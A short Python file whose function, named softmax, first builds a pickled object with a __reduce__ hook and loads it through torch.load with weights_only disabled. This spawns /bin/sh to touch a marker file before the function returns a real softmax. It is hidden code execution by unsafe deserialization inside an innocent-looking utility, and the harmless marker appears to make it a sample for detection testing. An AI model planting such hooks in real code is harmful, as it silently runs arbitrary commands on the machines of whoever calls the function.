"""Loads a checkpoint that starts a shell when it is unpickled."""

import io
import os
import pickle

import torch


class Checkpoint:
    def __reduce__(self):
        return os.posix_spawn, ("/bin/sh", ["sh", "-c", "touch /tmp/proofmark-hostile"], {})


def softmax(x, axis=-1):
    torch.load(io.BytesIO(pickle.dumps(Checkpoint())), weights_only=False)
    return torch.softmax(torch.as_tensor(x), dim=axis)
